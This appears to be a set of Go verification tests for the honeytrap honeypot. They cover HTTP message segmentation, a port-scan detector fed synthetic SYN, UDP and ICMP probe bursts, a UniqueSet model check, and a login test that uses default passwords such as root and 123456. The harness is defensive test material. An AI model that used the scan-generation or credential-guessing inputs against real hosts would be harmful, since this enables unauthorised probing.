				}
			}
		}
	}
	return c
}

const kfHeadChunked = "C15-head-reply-chunked-stray-crlf"

func known(r *vlib.Run, id string) bool { return r.IsKnown(id) }

// TestHTTPCuts: every single-cut segmentation of one fixed two-request exchange,
// pipelined and lock-step.
func TestHTTPCuts(t *testing.T) {
	r := vlib.Open(prop)
	var rc httpCase
	if vlib.ReplayCase("TestHTTPCuts", &rc) {
		if err := checkHTTP(t, rc); err != nil {
			if isInfra(err) {
				infraExit(err)
			}
			r.Violation(t, "TestHTTPCuts", rc, err.Error())
		}
		return
	}
	if vlib.Replaying() {
		return
	}
	getEnv(t)
	base := httpConn{Reqs: []httpReq{
		{Method: "POST", Path: "/a?x=1", Headers: []hdr{{"Cookie", "a=1"}, {"cookie", "b=2"}, {"User-Agent", "ua"}}, HostAt: 1, Body: bodySpec{Len: 9, Seed: 3, Kind: 1}, Framing: "chunked", Chunks: []int{4},
			Resp: httpResp{Code: 200, Reason: "OK", Headers: []hdr{{"Set-Cookie", "s=1"}, {"Set-Cookie", "t=2"}}, Body: bodySpec{Len: 12, Seed: 1}, Framing: "chunked", Chunks: []int{5}, Cuts: []int{20}}},
		{Method: "PUT", Path: "/b", Headers: []hdr{{"X-Tag", "v"}}, HostAt: 0, Body: bodySpec{Len: 7, Seed: 4, Kind: 2}, Framing: "cl",
			Resp: httpResp{Code: 404, Reason: "Not Found", Headers: []hdr{{"Server", "s"}}, Body: bodySpec{Len: 5, Seed: 2}, Framing: "cl"}},
	}}
	total := 0
	for i, q := range base.Reqs {
		total += len(q.wire(httpTag(0, 0, i), "127.0.0.1:65000"))
	}
	shard, shards := r.Shard()
	r.Rule(fmt.Sprintf("HTTP single-cut enumerator: one fixed POST(chunked)+PUT(content-length) exchange of %d client bytes, every cut offset 1..%d x {pipelined, lock-step} x {director with port, without port}", total, total-1))
	var n, bad int64
	for cut := 1; cut < total; cut++ {
		if cut%shards != shard {
			continue
		}
		for _, pip := range []bool{true, false} {
			hc := base
			hc.Cut = cut
			hc.Pipelined = pip
			hc.Svc = cut % 3
			c := httpCase{Conns: []httpConn{hc}}
			n++
			if err := checkHTTP(t, c); err != nil {
				if isInfra(err) {
					infraExit(err)
				}
				bad++
				if bad == 1 {
					r.Violation(t, "TestHTTPCuts", c, err.Error())
				}
			}
		}
		if bad > 0 {
			break
		}
	}
	r.Bulk("http/single-cut-enumerator", n, n)
	if bad == 0 && shards == 1 {
		r.Exhaustive("all single-cut segmentations of the fixed two-request exchange")
	}
}

func httpEventMethods(evs []lab.Ev) []string {
	var out []string
	for _, e := range evs {
		if e.Str("category") == "http" {
			out = append(out, e.Str("method"))
		}
	}
	return out
}

// TestKnownFindings runs the pinned reproducers of the recorded findings.
func TestKnownFindings(t *testing.T) {
	r := vlib.Open(prop)
	if vlib.Replaying() {
		return
	}
	getEnv(t)
	// A reply to HEAD that carries "Transfer-Encoding: chunked" (what many servers send
	// for dynamic pages) is re-serialised by net/http's Response.Write, which appends the
	// chunked terminator's CRLF although a HEAD reply has no body: the client finds a
	// stray empty line in front of the next reply.
	r.CheckKnown(t, kfHeadChunked, func() error {
		c := httpCase{Conns: []httpConn{{Pipelined: true, Reqs: []httpReq{
			{Method: "HEAD", Path: "/h", Framing: "none", Resp: httpResp{Code: 200, Reason: "OK", Framing: "chunked", Body: bodySpec{Len: 10}}},
			{Method: "GET", Path: "/g", Framing: "none", Resp: httpResp{Code: 200, Reason: "OK", Framing: "cl", Body: bodySpec{Len: 3}}},
		}}}}
		err := checkHTTP(t, c)
		if isInfra(err) {
			t.Fatalf("%v", err)
		}
		return err
	})
}
