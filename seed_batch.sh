#!/bin/bash
# seed_batch.sh ID...  - run seedcheck for every delivered seed of the given properties
cd /verif
for ID in "$@"; do
  for N in 1 2 3; do
    [ -f /tmp/seed-$ID/SEEDED/$N/patch.diff ] || continue
    echo "######## $ID-$N"
    ./seedcheck.sh $ID $N
  done
done
