//go:build verif && linux
// +build verif,linux

// C20 - a port scan is reported once, listing exactly the ports probed.
//
// Bursts of probes (TCP SYN, UDP to undecoded ports, ICMP echo) from 1..4 sources are
// written to the socketpair of hooked canaries whose real Start() loop and real knock
// detector run in a child process; many independent canaries share one detector tick.
// The oracle reads the portscan events. A second test enumerates operation sequences on
// the detector's grouping container (UniqueSet) against an ordered-set model.
package c20

import (
	"fmt"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/honeytrap/honeytrap/listener/canary"
	"pgregory.net/rapid"

	cl "verif/canarylab"
	"verif/vlib"
)

const prop = "C20"

func TestMain(m *testing.M) { cl.ChildIfRequested(); vlib.Main(m, prop) }

type probe struct {
	Src   int    `json:"src"`
	Proto string `json:"proto"` // tcp | udp | icmp
	Port  uint16 `json:"port,omitempty"`
}

type burst struct {
	Sources int     `json:"sources"`
	Probes  []probe `json:"probes"`
}

// sources 0, 2 and 3 arrive through the same router (one hardware address), source 1 is
// a station of its own: groups must be kept apart by address, not only by hardware address
var sources = []cl.Peer{
	{IP: cl.IP4{10, 20, 0, 1}, MAC: cl.MAC{0x02, 0xd0, 0, 0, 0, 1}},
	{IP: cl.IP4{10, 20, 0, 2}, MAC: cl.MAC{0x02, 0xd0, 0, 0, 0, 2}},
	{IP: cl.IP4{198, 51, 100, 9}, MAC: cl.MAC{0x02, 0xd0, 0, 0, 0, 1}},
	{IP: cl.IP4{10, 20, 0, 4}, MAC: cl.MAC{0x02, 0xd0, 0, 0, 0, 1}},
}

var (
	local    cl.Local
	localErr error
	once     sync.Once
)

func env(t testing.TB) cl.Local {
	once.Do(func() { local, localErr = cl.FindLocal() })
	if localErr != nil {
		t.Fatalf("infra: %v", localErr)
	}
	return local
}

func config(l cl.Local) cl.Config {
	cfg := cl.Config{Interfaces: []string{l.Name}, Start: true}
	for _, p := range sources {
		cfg.ARP = append(cfg.ARP, cl.ARPEntry{IP: p.IP.String(), MAC: p.MAC.String(), Interface: l.Name})
	}
	return cfg
}

func (b burst) frames(l cl.Local) [][]byte {
	out := make([][]byte, 0, len(b.Probes))
	for i, p := range b.Probes {
		src := sources[p.Src]
		switch p.Proto {
		case "tcp":
			out = append(out, l.TCPFrame(src, cl.TCPFields{Sport: uint16(30000 + i), Dport: p.Port, Seq: uint32(1000 * i), DataOff: -1, Flags: cl.SYN, Options: []byte{2, 4, 5, 0xb4}}))
		case "udp":
			out = append(out, l.UDPFrame(src, uint16(30000+i), p.Port, []byte("scan")))
		default:
			out = append(out, l.ICMPFrame(src, 77, uint16(i), []byte("abcdefghijklmnop")))
		}
	}
	return out
}

// expected returns, per source address, the set of distinct protocol/port pairs probed.
func (b burst) expected() map[string]map[string]bool {
	out := map[string]map[string]bool{}
	for _, p := range b.Probes {
		ip := sources[p.Src].IP.String()
		if out[ip] == nil {
			out[ip] = map[string]bool{}
		}
		if p.Proto == "icmp" {
			out[ip]["icmp"] = true
		} else {
			out[ip][fmt.Sprintf("%s/%d", p.Proto, p.Port)] = true
		}
	}
	return out
}

type scanReport struct {
	src   string
	ports []string
}

func scans(l cl.Local, evs []cl.Ev) (out []scanReport, malformed string) {
	for _, e := range evs {
		if e.Str("category") != "portscan" {
			continue
		}
		ports, ok := e.Strings("portscan.ports")
		if !ok {
			return nil, fmt.Sprintf("portscan event without a portscan.ports list: %v", e.M)
		}
		if e.Str("destination-ip") != l.IP.String() {
			return nil, fmt.Sprintf("portscan event for destination %q, the probes went to %s", e.Str("destination-ip"), l.IP)
		}
		out = append(out, scanReport{src: e.Str("source-ip"), ports: ports})
	}
	return out, ""
}

// complete: every expected pair of every source has been reported at least once.
func complete(want map[string]map[string]bool, got []scanReport) bool {
	have := map[string]map[string]bool{}
	for _, g := range got {
		if have[g.src] == nil {
			have[g.src] = map[string]bool{}
		}
		for _, p := range g.ports {
			have[g.src][p] = true
		}
	}
	for src, ps := range want {
		for p := range ps {
			if !have[src][p] {
				return false
			}
		}
	}
	return true
}

// judge applies the oracle to the reports of one burst.
func judge(b burst, got []scanReport) error {
	want := b.expected()
	bySrc := map[string][]string{}
	nev := map[string]int{}
	for _, g := range got {
		if _, ok := want[g.src]; !ok {
			return fmt.Errorf("port-scan event for source %s, which sent nothing (ports %v)", g.src, g.ports)
		}
		bySrc[g.src] = append(bySrc[g.src], g.ports...)
		nev[g.src]++
	}
	srcs := make([]string, 0, len(want))
	for s := range want {
		srcs = append(srcs, s)
	}
	sort.Strings(srcs)
	for _, src := range srcs {
		ports := bySrc[src]
		seen := map[string]int{}
		for _, p := range ports {
			seen[p]++
		}
		var missing, extra, dup []string
		for p := range want[src] {
			if seen[p] == 0 {
				missing = append(missing, p)
			}
		}
		for p, n := range seen {
			if !want[src][p] {
				extra = append(extra, fmt.Sprintf("%q", p))
			} else if n > 1 {
				dup = append(dup, fmt.Sprintf("%s x%d", p, n))
			}
		}
		sort.Strings(missing)
		sort.Strings(extra)
		sort.Strings(dup)
		if len(missing)+len(extra)+len(dup) > 0 {
			w := make([]string, 0, len(want[src]))
			for p := range want[src] {
				w = append(w, p)
			}
			sort.Strings(w)
			return fmt.Errorf("source %s probed exactly %v; its %d port-scan event(s) list %v: never reported %v, listed more than once %v, not probed %v",
				src, w, nev[src], ports, missing, dup, extra)
		}
	}
	return nil
}

const (
	tick        = 5 * time.Second
	firstWait   = 32 * time.Second // six detector ticks for the reports to be complete
	settleAfter = tick + 1500*time.Millisecond
)

// runBatch plays the bursts on fresh canaries of one child (one canary per burst) and
// returns the oracle's verdict per burst.
func runBatch(l cl.Local, bursts []burst) ([]error, error) {
	ch, err := cl.StartChild()
	if err != nil {
		return nil, err
	}
	defer ch.Kill()
	ks := make([]*cl.Canary, len(bursts))
	for i := range bursts {
		if ks[i], err = ch.New(config(l)); err != nil {
			return nil, err
		}
	}
	for i, b := range bursts {
		if err := ks[i].SendMany(b.frames(l)); err != nil {
			return nil, fmt.Errorf("sending probes: %v (child: %s)", err, ch.Death())
		}
	}
	if err := ch.Ping(); err != nil {
		return nil, fmt.Errorf("child: %v %s", err, ch.Death())
	}
	verdicts := make([]error, len(bursts))
	start := time.Now()
	pending := map[int]bool{}
	for i := range bursts {
		pending[i] = true
	}
	// phase 1: until every burst's reports are complete (re-measured once before a
	// missing report is believed)
	for round := 0; round < 2 && len(pending) > 0; round++ {
		deadline := start.Add(time.Duration(round+1) * firstWait)
		for i := range bursts {
			if !pending[i] {
				continue
			}
			want := bursts[i].expected()
			left := time.Until(deadline)
			if left < 0 {
				left = 0
			}
			if ks[i].WaitFor(left, func(evs []cl.Ev) bool {
				got, bad := scans(l, evs)
				return bad != "" || complete(want, got)
			}) {
				delete(pending, i)
			}
		}
		if ch.Dead() {
			break
		}
	}
	if ch.Dead() {
		return nil, fmt.Errorf("the canary child died during the bursts: %s", ch.Death())
	}
	// phase 2: one more detector tick, so that a repeated report is seen
	time.Sleep(settleAfter)
	for i, b := range bursts {
		got, bad := scans(l, ks[i].Events())
		if bad != "" {
			verdicts[i] = fmt.Errorf("%s", bad)
			continue
		}
		verdicts[i] = judge(b, got)
		if verdicts[i] != nil && pending[i] {
			verdicts[i] = fmt.Errorf("%v (waited %v = %d detector ticks)", verdicts[i], time.Since(start).Round(time.Second), int(time.Since(start)/tick))
		}
	}
	return verdicts, nil
}

func renumber(b burst) burst {
	out := burst{Probes: append([]probe(nil), b.Probes...)}
	for _, p := range b.Probes {
		if p.Src+1 > out.Sources {
			out.Sources = p.Src + 1
		}
	}
	return out
}

// minimise tries smaller variants of a failing burst, one batch (one tick) per round.
func minimise(l cl.Local, b burst, rounds int) burst {
	for r := 0; r < rounds && len(b.Probes) > 1; r++ {
		var cands []burst
		for s := 0; s < b.Sources; s++ {
			var only, without burst
			for _, p := range b.Probes {
				if p.Src == s {
					only.Probes = append(only.Probes, p)
				} else {
					without.Probes = append(without.Probes, p)
				}
			}
			if len(only.Probes) > 0 && len(only.Probes) < len(b.Probes) {
				cands = append(cands, renumber(only))
			}
			if len(without.Probes) > 0 && len(without.Probes) < len(b.Probes) {
				cands = append(cands, renumber(without))
			}
		}
		h := len(b.Probes) / 2
		cands = append(cands, renumber(burst{Probes: b.Probes[:h]}), renumber(burst{Probes: b.Probes[h:]}))
		if len(b.Probes) <= 12 {
			for i := range b.Probes {
				var c burst
				c.Probes = append(append(c.Probes, b.Probes[:i]...), b.Probes[i+1:]...)
				cands = append(cands, renumber(c))
			}
		}
		verdicts, err := runBatch(l, cands)
		if err != nil {
			return b
		}
		best := -1
		for i, v := range verdicts {
			if v != nil && (best < 0 || len(cands[i].Probes) < len(cands[best].Probes)) {
				best = i
			}
		}
		if best < 0 {
			return b
		}
		b = cands[best]
	}
	return b
}

func classify(b burst) (label, fp string) {
	want := b.expected()
	groups := map[string]bool{}
	repeated := false
	seen := map[string]bool{}
	protos := map[string]bool{}
	for _, p := range b.Probes {
		key := fmt.Sprintf("%d/%s/%d", p.Src, p.Proto, p.Port)
		if p.Proto == "icmp" {
			key = fmt.Sprintf("%d/icmp", p.Src)
		}
		if seen[key] {
			repeated = true
		}
		seen[key] = true
		groups[fmt.Sprintf("%d/%s", p.Src, p.Proto)] = true
		protos[p.Proto] = true
	}
	ps := make([]string, 0, 3)
	for p := range protos {
		ps = append(ps, p)
	}
	sort.Strings(ps)
	label = fmt.Sprintf("burst/sources=%d/%s", len(want), strings.Join(ps, "+"))
	if repeated || len(groups) >= 3 {
		return label, vlib.JSON(b)
	}
	return label, ""
}

var udpPorts = []uint16{7, 69, 500, 1194, 4500, 5353, 7000, 27015, 33434, 65535, 1}
var tcpPorts = []uint16{21, 23, 25, 80, 110, 139, 443, 445, 1433, 3306, 3389, 5900, 6379, 8080, 9200, 65535, 1}

func genBurst(rt *rapid.T, label string) burst {
	var b burst
	b.Sources = rapid.IntRange(1, 4).Draw(rt, label+"sources")
	n := rapid.SampledFrom([]int{1, 2, 3, 5, 8, 13, 30, 60, 100, 101, 102, 150}).Draw(rt, label+"probes")
	if rapid.Bool().Draw(rt, label+"any") {
		n = rapid.IntRange(1, 150).Draw(rt, label+"n")
	}
	protos := rapid.SampledFrom([][]string{{"tcp"}, {"udp"}, {"icmp"}, {"tcp", "udp"}, {"tcp", "icmp"}, {"udp", "icmp"}, {"tcp", "udp", "icmp"}, {"tcp", "udp", "icmp"}}).Draw(rt, label+"protos")
	few := rapid.IntRange(1, 6).Draw(rt, label+"distinct-ports") // small port alphabets force repeats
	for i := 0; i < n; i++ {
		p := probe{Src: rapid.IntRange(0, b.Sources-1).Draw(rt, label+"src"), Proto: rapid.SampledFrom(protos).Draw(rt, label+"proto")}
		switch p.Proto {
		case "tcp":
			p.Port = tcpPorts[rapid.IntRange(0, len(tcpPorts)-1).Draw(rt, label+"tp")%(few*3)%len(tcpPorts)]
		case "udp":
			p.Port = udpPorts[rapid.IntRange(0, len(udpPorts)-1).Draw(rt, label+"up")%(few*2)%len(udpPorts)]
		}
		b.Probes = append(b.Probes, p)
	}
	return renumber(b)
}

const ruleText = "bursts of 1..150 probes (TCP SYN to 17 ports, UDP to 11 undecoded ports, ICMP echo) with repeated ports from 1..4 sources in rapid-drawn interleavings, written to the socketpair of hooked canaries running the real Start() loop and knock detector in a child; batches of independent canaries share one 5 s detector tick; after the reports are complete one more tick is observed. Oracle per (source, destination): the concatenation of portscan.ports over the burst's events is duplicate-free and equals the distinct protocol/port pairs that source probed; no event for a source that sent nothing. non-trivial = a burst with a repeated protocol/port pair or >= 3 (source, protocol) groups live at the tick; plus all operation sequences of length <= 6 over 3 keys on the grouping container UniqueSet (Add/Remove/Count/Each/Each-with-removal) against an ordered-set model"

func TestBursts(t *testing.T) {
	r := vlib.Open(prop)
	l := env(t)
	var b burst
	if vlib.ReplayCase("TestBursts", &b) {
		for attempt := 0; attempt < 2; attempt++ {
			v, err := runBatch(l, []burst{b})
			if err != nil {
				t.Fatalf("infra: %v", err)
			}
			if v[0] == nil {
				if attempt > 0 {
					r.Flaky("replayed burst failed once, passed on re-run")
				}
				return
			}
			if attempt == 1 {
				r.Violation(t, "TestBursts", b, v[0].Error())
			}
		}
		return
	}
	r.Rule(ruleText)
	batch := r.Pick(48, 96)
	reported := 0
	sigs := map[string]bool{}
	box := &cl.Infra{}
	r.Rapid(t, "TestBursts", r.Pick(3, 50), func(rt *rapid.T) {
		if box.Err() != nil {
			rapid.Bool().Draw(rt, "skipped-after-infra-error")
			return
		}
		if reported >= 3 {
			return
		}
		bursts := make([]burst, batch)
		for i := range bursts {
			bursts[i] = genBurst(rt, fmt.Sprintf("b%d-", i))
			label, fp := classify(bursts[i])
			b := bursts[i]
			r.Case(label, fp, func() interface{} { return b })
		}
		verdicts, err := runBatch(l, bursts)
		if err != nil {
			box.Set(err)
			return
		}
		// confirm the failures on fresh canaries (one more batch), then report the
		// smallest reproducible one per failure kind
		var failed []burst
		for i, v := range verdicts {
			if v != nil {
				failed = append(failed, bursts[i])
			}
		}
		if len(failed) == 0 {
			return
		}
		again, err := runBatch(l, failed)
		if err != nil {
			box.Set(err)
			return
		}
		type cand struct {
			b   burst
			err error
		}
		var confirmed []cand
		for i, v := range again {
			if v == nil {
				r.Flaky(fmt.Sprintf("burst failed once and passed on fresh canaries: %s", vlib.JSON(failed[i])))
				continue
			}
			confirmed = append(confirmed, cand{failed[i], v})
		}
		sort.SliceStable(confirmed, func(i, j int) bool { return len(confirmed[i].b.Probes) < len(confirmed[j].b.Probes) })
		for _, c := range confirmed {
			sig := kind(c.err)
			if sigs[sig] || reported >= 3 {
				continue
			}
			sigs[sig] = true
			reported++
			small := minimise(l, c.b, 3)
			msg := c.err.Error()
			if len(small.Probes) < len(c.b.Probes) {
				if v, err := runBatch(l, []burst{small}); err == nil && v[0] != nil {
					msg = v[0].Error()
				} else {
					small = c.b
				}
			}
			r.Violation(t, "TestBursts", small, msg)
		}
	})
	if e := box.Err(); e != nil {
		t.Fatalf("infra: %v", e)
	}
}

// kind reduces an oracle message to its failure kind.
func kind(err error) string {
	m := err.Error()
	var ks []string
	for _, k := range []string{"never reported []", "listed more than once []", "not probed []", "which sent nothing", "without a portscan.ports", "for destination"} {
		if strings.Contains(m, k) {
			ks = append(ks, k)
		}
	}
	// the three lists: which of them are non-empty
	return fmt.Sprintf("%v|tcp=%v|udp=%v|icmp=%v", ks, strings.Contains(m, "tcp/"), strings.Contains(m, "udp/"), strings.Contains(m, "icmp"))
}

// TestBurstShapes runs a fixed list of burst shapes every time (the classes the
// statement names), independent of the seed.
func TestBurstShapes(t *testing.T) {
	r := vlib.Open(prop)
	l := env(t)
	var b burst
	if vlib.ReplayCase("TestBurstShapes", &b) {
		for attempt := 0; attempt < 2; attempt++ {
			v, err := runBatch(l, []burst{b})
			if err != nil {
				t.Fatalf("infra: %v", err)
			}
			if v[0] == nil {
				return
			}
			if attempt == 1 {
				r.Violation(t, "TestBurstShapes", b, v[0].Error())
			}
		}
		return
	}
	if vlib.Replaying() {
		return
	}
	if i, _ := r.Shard(); i != 0 {
		return
	}
	r.Rule(ruleText)
	rep := func(src int, proto string, ports ...uint16) []probe {
		var out []probe
		for _, p := range ports {
			out = append(out, probe{Src: src, Proto: proto, Port: p})
		}
		return out
	}
	join := func(ps ...[]probe) burst {
		var b burst
		for _, p := range ps {
			b.Probes = append(b.Probes, p...)
		}
		return renumber(b)
	}
	many := func(src int, proto string, n int, distinct int) []probe {
		var out []probe
		for i := 0; i < n; i++ {
			out = append(out, probe{Src: src, Proto: proto, Port: uint16(2000 + i%distinct)})
		}
		return out
	}
	icmp := func(src, n int) []probe {
		var out []probe
		for i := 0; i < n; i++ {
			out = append(out, probe{Src: src, Proto: "icmp"})
		}
		return out
	}
	shapes := []burst{
		join(rep(0, "tcp", 80)),
		join(rep(0, "udp", 7000)),
		join(icmp(0, 1)),
		join(rep(0, "tcp", 80, 80, 443, 80)),
		join(rep(0, "udp", 7000, 7000, 7001)),
		join(icmp(0, 5)),
		join(rep(0, "tcp", 80, 443), rep(0, "udp", 7000, 7001)),
		join(rep(0, "udp", 7000), rep(0, "tcp", 80), rep(0, "udp", 7000), rep(0, "tcp", 80)),
		join(rep(0, "tcp", 80), icmp(0, 2), rep(0, "udp", 500)),
		join(rep(0, "tcp", 80), rep(1, "tcp", 80)),
		join(rep(0, "tcp", 80), rep(1, "tcp", 81), rep(2, "tcp", 82)),
		join(rep(0, "udp", 1), rep(1, "udp", 2), rep(2, "udp", 3), rep(3, "udp", 4)),
		join(icmp(0, 1), icmp(1, 1), icmp(2, 1), icmp(3, 1)),
		join(rep(0, "tcp", 80), rep(1, "udp", 7000), icmp(2, 1)),
		join(rep(0, "tcp", 80), rep(1, "tcp", 80), rep(0, "tcp", 81), rep(1, "tcp", 81), rep(2, "tcp", 80), rep(3, "tcp", 80)),
		join(many(0, "tcp", 100, 100)),
		join(many(0, "tcp", 101, 101)),
		join(many(0, "tcp", 150, 150)),
		join(many(0, "udp", 150, 7)),
		join(many(0, "tcp", 120, 3), many(1, "udp", 30, 30)),
		join(many(0, "tcp", 50, 50), many(1, "tcp", 50, 50), many(2, "tcp", 50, 50)),
		join(rep(0, "tcp", 80), rep(0, "udp", 80), icmp(0, 1), rep(1, "tcp", 80), rep(1, "udp", 80), icmp(1, 1), rep(2, "tcp", 80), rep(2, "udp", 80), icmp(2, 1), rep(3, "tcp", 80), rep(3, "udp", 80), icmp(3, 1)),
	}
	for _, b := range shapes {
		b := b
		label, fp := classify(b)
		if fp == "" {
			fp = "" // single-group shapes are trivial by the rule
		}
		r.Case("shape/"+label, fp, func() interface{} { return b })
	}
	verdicts, err := runBatch(l, shapes)
	if err != nil {
		t.Fatalf("infra: %v", err)
	}
	var failed []burst
	for i, v := range verdicts {
		if v != nil {
			failed = append(failed, shapes[i])
		}
	}
	if len(failed) == 0 {
		return
	}
	again, err := runBatch(l, failed)
	if err != nil {
		t.Fatalf("infra: %v", err)
	}
	sigs := map[string]bool{}
	for i, v := range again {
		if v == nil {
			r.Flaky(fmt.Sprintf("shape failed once and passed on fresh canaries: %s", vlib.JSON(failed[i])))
			continue
		}
		if sig := kind(v); !sigs[sig] && len(sigs) < 4 {
			sigs[sig] = true
			r.Violation(t, "TestBurstShapes", failed[i], v.Error())
		}
	}
}

// ---------------------------------------------------------------------------------
// UniqueSet against an ordered-set model

type item struct{ key int }

type setOp struct {
	Op  string `json:"op"` // add | remove | count | each | each-remove-all | each-remove
	Key int    `json:"key,omitempty"`
}

type setCase struct {
	Ops []setOp `json:"ops"`
}

var allOps = func() []setOp {
	var out []setOp
	for k := 0; k < 3; k++ {
		out = append(out, setOp{"add", k})
	}
	for k := 0; k < 3; k++ {
		out = append(out, setOp{"remove", k})
	}
	out = append(out, setOp{"count", 0}, setOp{"each", 0}, setOp{"each-remove-all", 0})
	for k := 0; k < 3; k++ {
		out = append(out, setOp{"each-remove", k})
	}
	return out
}()

// checkSet runs the sequence on a UniqueSet and on the model: a list of keys in insertion
// order.
func checkSet(c setCase) (err error) {
	defer func() {
		if r := recover(); r != nil {
			err = fmt.Errorf("panic: %v", r)
		}
	}()
	us := canary.NewUniqueSet(func(a, b interface{}) bool { return a.(*item).key == b.(*item).key })
	var model []int          // keys in insertion order
	canon := map[int]*item{} // the stored item per key
	pos := func(k int) int {
		for i, m := range model {
			if m == k {
				return i
			}
		}
		return -1
	}
	for n, op := range c.Ops {
		at := fmt.Sprintf("op %d %s(%d)", n, op.Op, op.Key)
		switch op.Op {
		case "add":
			it := &item{key: op.Key}
			got := us.Add(it)
			if pos(op.Key) >= 0 {
				if got != interface{}(canon[op.Key]) {
					return fmt.Errorf("%s: key already in the set, Add must return the stored element", at)
				}
			} else {
				if got != interface{}(it) {
					return fmt.Errorf("%s: new key, Add must return the added element", at)
				}
				model = append(model, op.Key)
				canon[op.Key] = it
			}
		case "remove":
			if it, ok := canon[op.Key]; ok {
				us.Remove(it)
				model = append(model[:pos(op.Key)], model[pos(op.Key)+1:]...)
				delete(canon, op.Key)
			} else {
				us.Remove(&item{key: op.Key}) // not an element: no effect
			}
		case "count":
		case "each", "each-remove-all", "each-remove":
			var visited []int
			var idx []int
			us.Each(func(i int, v interface{}) {
				if v == nil {
					visited = append(visited, -1)
					idx = append(idx, i)
					return
				}
				it := v.(*item)
				visited = append(visited, it.key)
				idx = append(idx, i)
				if op.Op == "each-remove-all" || (op.Op == "each-remove" && it.key == op.Key) {
					// the detector removes the element it is visiting
					us.Remove(it)
				}
			})
			if fmt.Sprint(visited) != fmt.Sprint(model) {
				return fmt.Errorf("%s: Each visited keys %v, the set holds %v in insertion order (each element must be visited exactly once)", at, visited, model)
			}
			if op.Op == "each" {
				for i, x := range idx {
					if x != i {
						return fmt.Errorf("%s: Each passed indices %v, want 0..%d", at, idx, len(model)-1)
					}
				}
			}
			switch op.Op {
			case "each-remove-all":
				model = nil
				canon = map[int]*item{}
			case "each-remove":
				if p := pos(op.Key); p >= 0 {
					model = append(model[:p], model[p+1:]...)
					delete(canon, op.Key)
				}
			}
		}
		if us.Count() != len(model) {
			return fmt.Errorf("%s: Count() = %d, the set holds %d elements %v", at, us.Count(), len(model), model)
		}
	}
	// final contents
	var final []int
	us.Each(func(i int, v interface{}) {
		if v == nil {
			final = append(final, -1)
		} else {
			final = append(final, v.(*item).key)
		}
	})
	if fmt.Sprint(final) != fmt.Sprint(model) {
		return fmt.Errorf("after the sequence the set holds %v, the model %v", final, model)
	}
	return nil
}

func TestUniqueSet(t *testing.T) {
	r := vlib.Open(prop)
	var c setCase
	if vlib.ReplayCase("TestUniqueSet", &c) {
		if err := checkSet(c); err != nil {
			r.Violation(t, "TestUniqueSet", c, err.Error())
		}
		return
	}
	if vlib.Replaying() {
		return
	}
	r.Rule(ruleText)
	si, sn := r.Shard()
	var n, nontrivial int64
	var firstFail *setCase
	var firstMsg string
	var failures int64
	seq := make([]setOp, 0, 6)
	var idx int64
	var rec func(depth int)
	rec = func(depth int) {
		if depth > 0 {
			idx++
			if idx%int64(sn) == int64(si) {
				n++
				adds := 0
				iter := false
				for _, o := range seq {
					if o.Op == "add" {
						adds++
					}
					if strings.HasPrefix(o.Op, "each") {
						iter = true
					}
				}
				if adds >= 2 && iter {
					nontrivial++
				}
				c := setCase{Ops: append([]setOp(nil), seq...)}
				if err := checkSet(c); err != nil {
					failures++
					// shortest first: the enumeration is depth-first, so compare lengths
					if firstFail == nil || len(c.Ops) < len(firstFail.Ops) {
						firstFail, firstMsg = &c, err.Error()
					}
				}
			}
		}
		if depth == 6 {
			return
		}
		for _, o := range allOps {
			seq = append(seq, o)
			rec(depth + 1)
			seq = seq[:len(seq)-1]
		}
	}
	rec(0)
	r.Bulk("uniqueset/sequences<=6", n, nontrivial)
	r.Sample("uniqueset/sequences<=6", setCase{Ops: []setOp{{"add", 0}, {"add", 1}, {"add", 2}, {"each-remove-all", 0}, {"count", 0}}})
	if firstFail != nil {
		r.Note("UniqueSet: %d of %d sequences disagree with the ordered-set model", failures, n)
		r.Violation(t, "TestUniqueSet", *firstFail, firstMsg)
		return
	}
	r.Exhaustive("all operation sequences of length <= 6 over 3 keys on UniqueSet (12 operations: Add/Remove per key, Count, Each, Each removing every visited element, Each removing one key when visited)")
}
