package c12

import (
	"bufio"
	"bytes"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/honeytrap/honeytrap/event"
	"github.com/honeytrap/honeytrap/pushers"
	"golang.org/x/crypto/ssh"
	"pgregory.net/rapid"

	"verif/lab"
	"verif/svc"
	"verif/vlib"
)

const prop = "C12"

func TestMain(m *testing.M) { vlib.Main(m, prop) }

type cred struct {
	User string `json:"user"`
	Pass string `json:"pass"`
}

type attempt struct {
	Kind string `json:"kind"` // "login", "probe", or "other" (ldap, ftp: a login attempt on another connection to the same service)
	User string `json:"user,omitempty"`
	Pass string `json:"pass,omitempty"`
	DN   string `json:"dn,omitempty"` // ldap: how the user is presented
	// how the credential is put on the wire when it is not the plain "command + argument" form
	// ftp  UserForm: "" USER <user> | "noarg" USER | "space" USER<sp> | "skip" no USER command
	// ftp  PassForm: "" PASS <pass> | "noarg" PASS | "space" PASS<sp> | "spaces" PASS<sp><sp><sp> | "skip" no PASS command
	// ldap PassForm: "" simple password | "noauth" bind without authentication element |
	//                "nodn" bind with the version only | "sasl" SASL PLAIN carrying the password
	// ftp probes: PassForm "noarg" sends the gated command without its parameter
	UserForm string `json:"user_form,omitempty"`
	PassForm string `json:"pass_form,omitempty"`
	// ftp: spelling of the command NAME (command names are case-insensitive): "" UPPER | "lower" |
	// "title" Xxxx | "alt" xXxX. Spell applies to USER and to a probe's command, PassSpell to PASS.
	Spell     string `json:"spell,omitempty"`
	PassSpell string `json:"pass_spell,omitempty"`
}

type authCase struct {
	Service  string    `json:"service"` // ssh | ldap | ftp
	Set      []cred    `json:"credential_set"`
	Wildcard bool      `json:"wildcard"`
	Steps    []attempt `json:"steps"`
	// ftp schedule dimensions: Pipelined = the whole dialogue is written in one client write,
	// replies are read afterwards; PushDelayMs = the event channel takes that long per event
	// (a channel that does I/O), 0 = the instant capture channel
	Pipelined   bool `json:"pipelined,omitempty"`
	PushDelayMs int  `json:"push_delay_ms,omitempty"`
}

var users = []string{"root", "admin", "guest", ""}
var passes = []string{"root", "admin", "123456", ""}

func (c authCase) accepts(user, pass string) bool {
	if c.Wildcard {
		return true
	}
	for _, k := range c.Set {
		if k.User == user && k.Pass == pass {
			return true
		}
	}
	return false
}

func (c authCase) credToml() string {
	var q []string
	if c.Wildcard {
		q = append(q, `"*"`)
	}
	for _, k := range c.Set {
		q = append(q, fmt.Sprintf("%q", k.User+":"+k.Pass))
	}
	return "credentials=[" + strings.Join(q, ", ") + "]\n"
}

func start(body string) (*lab.Server, *lab.Capture, error) {
	if _, err := lab.DataDir(); err != nil {
		return nil, nil, err
	}
